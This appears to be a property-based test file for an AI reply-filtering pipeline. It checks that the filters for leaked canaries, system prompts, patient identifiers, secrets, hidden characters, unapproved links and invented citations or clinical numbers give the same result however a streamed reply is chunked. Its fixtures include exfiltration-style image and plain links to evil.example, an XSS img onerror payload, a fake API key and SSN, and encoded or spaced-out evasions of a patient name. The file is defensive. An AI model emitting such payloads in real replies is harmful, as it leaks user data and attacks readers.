/** However a reply is cut into chunks, what goes out is the same: for each check, and for all together, withholding included. */
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { isEnvelopeError } from '../../src/base/errors/index.ts'
import type { Check } from '../../src/base/index.ts'
import * as reply from '../../src/reply/index.ts'
import { createReplyChecker, type ReplyCheckContext } from '../../src/reply/index.ts'
import { header, TOKENS, vaultedValues } from './harness.ts'

const context: ReplyCheckContext = {
  prompt: {
    canaries: ['q7x3k9m2w5t8r4z6'],
    mark: 'q7x3k|',
    instructions: 'Answer in plain words from the records that you were given and from nothing else at all.',
    messages: [{ role: 'system', content: 'Answer in plain words from the records that you were given and from nothing else at all.' }],
    fragments: [
      {
        header: header('F1'),
        text: 'A1c 7.2 % (was 8.1 %). Metformin 500 mg twice daily. BP 132/76. "No change in diet was made this week."',
      },
      { header: header('F2', { dataClass: 'clinical-note' }), text: 'Note.' },
    ],
  },
  restoration: (token) => (TOKENS[token] === undefined ? { kind: 'unknown' } : { kind: 'hidden', category: TOKENS[token]!.category }),
  known: vaultedValues,
  detect: (text) =>
    [...text.matchAll(/\b\d{3}-\d{2}-\d{4}\b|\bDr\. [A-Z][a-z]+\b/g)].map((match) => ({
      start: match.index,
      end: match.index + match[0].length,
      category: 'ssn' as const,
      detector: 'test',
      confidence: 1,
    })),
}

/** Pieces that checks care about, and some that only look so. */
const PIECES = [
  'The patient is well. ',
  'A1c is 7.2 % [F1]. ',
  'A1c is 9.9 % [F1].\n',
  'Take metformin 500 mg [F1, F2] or 5000 mg [F2]. ',
  'HR 720 bpm, potassium 45 mmol/L. ',
  'He said "no change in diet was made this week" [F1]. ',
  'He said "everything in this chart is wrong" [F1]. ',
  '[NAME-1-k7qd] and [NAME-9-zzzz] and [NAME-1-k7q] ',
  'name-1-k7qd ',
  'Maria Ortiz ',
  'maria\n ortiz, 555-013-4477 ',
  'SSN 123-45-6789 of Dr. Smith ',
  'see https://evil.example/x?d=1 now ',
  '![i](https://evil.example/p.png?d=a) ',
  '[label](https://portal.example/help/a) ',
  '<img src="https://evil.example/x" onerror=alert(1)> ',
  'www.evil.example/abc ',
  'sk-live-abcdefghijklmnopqrstuvwx ',
  '\u200b\u{e0041}hidden\u202e ',
  '👨‍👩‍👧 family 👩‍⚕️ ',
  '\ud83d',
  '\ude00',
  'q7x3k| quoted ',
  '[F7] [F1, F9] ',
  'x'.repeat(150),
  ' '.repeat(40),
  '\n\n',
  '```\ncode [NAME-1-k7qd]\n``` ',
]
/** Pieces that end a reply. */
const FATAL = [
  'Q7X3-K9M2-W5T8-R4Z6',
  Buffer.from('Maria Ortiz').toString('base64'),
  'M a r i a  O r t i z',
  'plain words from the records that you were given and from nothing',
]

const text = fc
  .tuple(
    fc.array(
      fc.oneof(
        { weight: 6, arbitrary: fc.constantFrom(...PIECES) },
        { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
      ),
      {
        maxLength: 14,
      },
    ),
    fc.oneof({ weight: 3, arbitrary: fc.constant('') }, { weight: 1, arbitrary: fc.constantFrom(...FATAL) }),
    fc.array(fc.constantFrom(...PIECES), { maxLength: 4 }),
  )
  .map(([before, fatal, after]) => before.join('') + fatal + after.join(''))

interface Outcome {
  readonly text: string
  readonly failure: string | null
}

async function streamed(checks: readonly Check[], chunks: readonly string[]): Promise<Outcome> {
  let out = ''
  try {
    for await (const piece of createReplyChecker({ checks }).checkStream(chunks, context)) out += piece
    return { text: out, failure: null }
  } catch (error) {
    if (!isEnvelopeError(error)) throw error
    return { text: out, failure: error.code }
  }
}

const cutAt = (whole: string, places: readonly number[]): readonly string[] => {
  const cuts = [...new Set(places.map((place) => place % (whole.length + 1)))].sort((a, b) => a - b)
  return [...cuts, whole.length].map((end, index) => whole.slice(index === 0 ? 0 : cuts[index - 1], end))
}

const allChecks: Readonly<Record<string, Check>> = {
  tokens: reply.tokensCheck(),
  canaries: reply.canariesCheck(),
  'system-prompt': reply.systemPromptCheck(),
  'known-values': reply.knownValuesCheck(),
  identifiers: reply.identifiersCheck(),
  links: reply.linksCheck({ allow: ['https://portal.example/help/'] }),
  secrets: reply.secretsCheck(),
  invisible: reply.invisibleCheck(),
  citations: reply.citationsCheck(),
  'data-classes': reply.dataClassesCheck(['imaging']),
  'clinical-numbers': reply.clinicalNumbersCheck(),
  quotes: reply.quotesCheck(),
  ranges: reply.rangesCheck(),
}
const groups: Readonly<Record<string, readonly Check[]>> = {
  ...Object.fromEntries(Object.entries(allChecks).map(([name, check]) => [name, [check]])),
  'all stream checks': Object.values(allChecks).filter(({ mode }) => mode === 'stream'),
  'all checks': Object.values(allChecks),
}

describe('chunk invariance', () => {
  for (const [name, checks] of Object.entries(groups)) {
    it(`${name}: random cuts`, async () => {
      await fc.assert(
        fc.asyncProperty(text, fc.array(fc.nat(), { maxLength: 12 }), async (whole, places) => {
          expect(await streamed(checks, cutAt(whole, places))).toEqual(await streamed(checks, [whole]))
        }),
        { numRuns: name.startsWith('all') ? 50 : 20 },
      )
    })
    it(`${name}: every split point, and single units`, async () => {
      for (const whole of [PIECES.slice(0, 20).join(''), `${PIECES.slice(5, 12).join('')}${FATAL[1]} ${PIECES[0]}`]) {
        const expected = await streamed(checks, [whole])
        expect(await streamed(checks, whole.split(''))).toEqual(expected)
        const step = name.startsWith('all') ? 31 : 41
        for (let at = 1; at < whole.length; at += step)
          expect(await streamed(checks, [whole.slice(0, at), whole.slice(at)])).toEqual(expected)
      }
    })
  }

  it('what streams is what a check of the whole text gives', async () => {
    const streaming = groups['all stream checks']!
    await fc.assert(
      fc.asyncProperty(text, async (whole) => {
        const stream = await streamed(streaming, [whole])
        const buffer = createReplyChecker({ checks: streaming, delivery: 'buffer' }).checkText(whole, context)
        expect(stream.failure === 'BLOCKED').toBe(buffer.outcome === 'withheld')
        if (stream.failure === null) expect(stream.text).toBe(buffer.text)
      }),
      { numRuns: 120 },
    )
  })
})
